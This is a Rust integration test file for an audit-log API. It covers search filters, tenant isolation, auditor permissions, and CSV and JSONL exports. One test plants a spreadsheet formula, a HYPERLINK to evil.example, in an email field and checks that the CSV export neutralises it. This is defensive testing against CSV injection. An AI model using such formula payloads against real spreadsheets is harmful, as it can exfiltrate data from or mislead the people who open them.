//! The audit log through HTTP: search filters alone and combined, tenant
//! isolation, who may search and export, and the two exports.

use std::collections::BTreeMap;

use lockbox_shared::api::{AuditEntry, CSV_COLUMNS};
use lockbox_shared::audit::utc_ms;
use lockbox_tests::{act, pending_contoso_request, sign_in, Session, CONTOSO};
use serde_json::json;

/// The items of a search as `who`, asserting it answered 200.
fn search(who: &Session, query: &str) -> Vec<serde_json::Value> {
    let answer = who.get(&format!("/api/v1/audit?limit=500&{query}"));
    assert_eq!(answer.status, 200, "{query}: {}", answer.body);
    answer.json()["items"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// A Contoso request taken through pre-approval and approval: its id.
fn decided_request() -> String {
    let id = pending_contoso_request(15);
    assert_eq!(
        act(
            &sign_in("approver1@contoso.example"),
            &id,
            "approve",
            Some("ok")
        )
        .status,
        200
    );
    id
}

fn activities(items: &[serde_json::Value]) -> Vec<String> {
    items
        .iter()
        .map(|r| r["activity"].as_str().unwrap_or_default().to_owned())
        .collect()
}

#[test]
fn each_filter_alone_and_combined_selects_what_it_says() {
    let id = decided_request();
    let auditor = sign_in("auditor@contoso.example");
    let item = format!("item={id}");

    let all = search(&auditor, &item);
    assert_eq!(
        activities(&all),
        [
            "Set-AccessToCustomerDataRequest",
            "PreApprove-AccessToCustomerDataRequest",
            "New-AccessToCustomerDataRequest",
        ],
        "newest first"
    );
    let one = search(
        &auditor,
        &format!("{item}&activity=Set-AccessToCustomerDataRequest"),
    );
    assert_eq!(activities(&one), ["Set-AccessToCustomerDataRequest"]);
    let two = search(
        &auditor,
        &format!("{item}&activity=New-AccessToCustomerDataRequest,Set-AccessToCustomerDataRequest"),
    );
    assert_eq!(two.len(), 2);
    let by_user = search(&auditor, &format!("{item}&user=engineer1@provider.example"));
    assert_eq!(activities(&by_user), ["New-AccessToCustomerDataRequest"]);
    // Contains-matching, in any case, with the characters LIKE would treat
    // as wildcards taken as typed.
    let contains = search(&auditor, &format!("{item}&user_contains=ENGINEER1"));
    assert_eq!(activities(&contains), ["New-AccessToCustomerDataRequest"]);
    let activity_text = search(&auditor, &format!("{item}&activity_contains=preapprove"));
    assert_eq!(
        activities(&activity_text),
        ["PreApprove-AccessToCustomerDataRequest"]
    );
    assert!(search(&auditor, &format!("{item}&user_contains=%25")).is_empty());
    assert!(search(&auditor, &format!("{item}&user_contains=_")).is_empty());
    // Time: the records are from the last minute.
    let now = lockbox_tests::now_ms();
    assert_eq!(
        search(&auditor, &format!("{item}&start={}", now - 120_000)).len(),
        3
    );
    assert!(search(&auditor, &format!("{item}&end={}", now - 120_000)).is_empty());
    let combined = search(
        &auditor,
        &format!(
            "{item}&start={}&activity_contains=access&user_contains=lockbox-service",
            now - 120_000
        ),
    );
    assert_eq!(activities(&combined), ["Set-AccessToCustomerDataRequest"]);
    // Every record answers with its sequence number and leaf hash field.
    assert!(all
        .iter()
        .all(|r| r["seq"].as_i64().is_some() && r["leaf_hash"].is_string()));
}

#[test]
fn bad_filters_get_a_400_that_says_what_to_change() {
    let auditor = sign_in("auditor@contoso.example");
    let many: Vec<String> = (0..51).map(|i| format!("A{i}")).collect();
    for query in [
        format!("activity={}", many.join(",")),
        format!("user={}", many.join(",")),
        format!("user_contains={}", "x".repeat(201)),
        "start=2026-01-02T00:00:00Z&end=2026-01-01T00:00:00Z".to_owned(),
        "cursor=abc".to_owned(),
    ] {
        for path in ["/api/v1/audit", "/api/v1/audit/export.csv"] {
            let answer = auditor.get(&format!("{path}?{query}"));
            assert_eq!(answer.status, 400, "{path}?{query}: {}", answer.body);
        }
    }
}

#[test]
fn a_tenant_never_sees_another_tenants_records() {
    let id = decided_request();
    let fabrikam = sign_in("admin@fabrikam.example");
    assert!(search(&fabrikam, &format!("item={id}")).is_empty());
    let export = fabrikam.get(&format!("/api/v1/audit/export.jsonl?item={id}"));
    assert_eq!(export.status, 200);
    assert!(export.body.is_empty(), "{}", export.body);
    let since = lockbox_tests::now_ms() - 600_000;
    let theirs = fabrikam.get(&format!("/api/v1/audit/export.jsonl?start={since}"));
    for line in theirs.body.lines() {
        let entry: AuditEntry = serde_json::from_str(line).expect("a JSON line");
        assert_ne!(entry.record.record.tenant_id.as_str(), CONTOSO, "{line}");
    }
}

#[test]
fn auditors_search_and_export_but_do_not_decide() {
    let id = pending_contoso_request(15);
    let auditor = sign_in("auditor@contoso.example");
    assert_eq!(auditor.get(&format!("/api/v1/requests/{id}")).status, 200);
    for verb in ["approve", "deny"] {
        assert_eq!(act(&auditor, &id, verb, None).status, 403, "{verb}");
    }
    assert_eq!(auditor.get("/api/v1/settings/lockbox").status, 403);
    assert_eq!(auditor.get("/api/v1/roles").status, 403);
    assert!(!search(&auditor, &format!("item={id}")).is_empty());
    assert_eq!(
        auditor
            .get(&format!("/api/v1/audit/export.csv?item={id}"))
            .status,
        200
    );
    // Someone with no customer role may not.
    let member = sign_in("user@contoso.example");
    assert_eq!(member.get("/api/v1/audit/export.csv").status, 403);
}

/// A CSV cell as it was before the export neutralised it.
fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r', '\'']) => rest,
        _ => cell,
    }
}

#[test]
fn the_csv_export_parses_back_to_the_json_records_and_runs_no_formula() {
    let id = decided_request();
    // A refused role change records the address as typed: here a formula.
    let approver = sign_in("approver1@contoso.example");
    let formula = format!("=HYPERLINK(\"http://evil.example/{id}\")@x.example");
    let refused = approver.post(
        "/api/v1/roles/assign",
        &json!({ "email": formula, "role": "auditor" }),
    );
    // Refused (no such person: 404, as for any person one may not see),
    // and recorded in the caller's own log.
    assert_eq!(refused.status, 404, "{}", refused.body);

    // A closed range, and time for every record in it to be written, so the
    // two exports see the same records while other tests run.
    let since = lockbox_tests::now_ms() - 120_000;
    let until = lockbox_tests::now_ms() + 1;
    std::thread::sleep(std::time::Duration::from_secs(2));
    let query = format!(
        "start={since}&end={until}&user=approver1@contoso.example,lockbox-service@lockbox.example"
    );
    let admin = sign_in("admin@contoso.example");
    let csv_answer = admin.get(&format!("/api/v1/audit/export.csv?{query}"));
    assert_eq!(csv_answer.status, 200);
    assert!(csv_answer.content_type.starts_with("text/csv"));
    let disposition = csv_answer
        .header("content-disposition")
        .unwrap_or_default()
        .to_owned();
    assert!(
        disposition.starts_with("attachment; filename=\"lockbox-audit-contoso-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    let jsonl = admin.get(&format!("/api/v1/audit/export.jsonl?{query}"));
    assert_eq!(jsonl.status, 200);
    let entries: Vec<AuditEntry> = jsonl
        .body
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON line"))
        .collect();
    assert!(
        entries.iter().any(|e| e.record.record.item == id),
        "the approval is exported"
    );
    assert!(
        entries
            .windows(2)
            .all(|w| w[0].record.seq < w[1].record.seq),
        "oldest first"
    );

    let mut reader = csv::Reader::from_reader(csv_answer.body.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(headers, CSV_COLUMNS);
    let rows: Vec<csv::StringRecord> = reader
        .records()
        .map(|r| r.expect("an RFC 4180 row"))
        .collect();
    assert_eq!(rows.len(), entries.len(), "one row per record");
    let mut neutralised = 0;
    for (row, entry) in rows.iter().zip(&entries) {
        let r = &entry.record;
        assert_eq!(&row[0], utc_ms(r.occurred_at));
        assert_eq!(restore(&row[1]), r.record.user);
        assert_eq!(restore(&row[2]), r.record.activity.as_str());
        assert_eq!(restore(&row[3]), r.record.item);
        assert_eq!(restore(&row[4]), r.record.ip);
        let details: BTreeMap<String, String> =
            serde_json::from_str(restore(&row[5])).expect("AuditData is JSON");
        assert_eq!(details, r.record.details);
        assert_eq!(&row[6], r.seq.to_string());
        assert_eq!(restore(&row[7]), entry.leaf_hash);
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {cell}"
            );
        }
        if row[3].starts_with("'=HYPERLINK") {
            neutralised += 1;
        }
    }
    assert_eq!(
        neutralised, 1,
        "the refused change with the formula is exported, neutralised"
    );
}

#[test]
fn a_search_of_fifty_activities_and_fifty_users_runs_on_d1_and_narrows_to_a_request() {
    // D1 binds at most 100 parameters a statement; each list is one.
    let id = decided_request();
    let auditor = sign_in("auditor@contoso.example");
    let mut activities: Vec<String> = (0..49).map(|i| format!("Made-Up-Activity-{i}")).collect();
    activities.push("Set-AccessToCustomerDataRequest".to_owned());
    let mut users: Vec<String> = (0..49)
        .map(|i| format!("nobody{i}@contoso.example"))
        .collect();
    users.push("lockbox-service@lockbox.example".to_owned());
    let query = format!(
        "start=2020-01-01T00:00:00Z&item={id}&request={id}&activity={}&user={}&user_contains=lockbox&activity_contains=access",
        activities.join(","),
        users.join(",")
    );
    let items = search(&auditor, &query);
    assert_eq!(items.len(), 1, "{items:?}");
    assert_eq!(items[0]["details"]["RequestId"], id.as_str());
    // By request alone: its creation, pre-approval and approval.
    let all = search(&auditor, &format!("request={id}"));
    assert_eq!(all.len(), 3, "{all:?}");
}

/// The local seeding route names a tenant that does not exist instead of
/// failing with a 500.
#[test]
fn seeding_the_log_of_a_tenant_that_does_not_exist_is_a_404_naming_it() {
    let unknown = "7c0a8f4e-5a1b-4c3d-9e2f-00000000abcd";
    let answer = lockbox_tests::post_json(
        "/api/v1/dev/seed-audit",
        &json!({ "tenant_id": unknown, "count": 1 }),
    );
    assert_eq!(answer.status, 404, "{}", answer.body);
    assert!(answer.body.contains(unknown), "{}", answer.body);
}
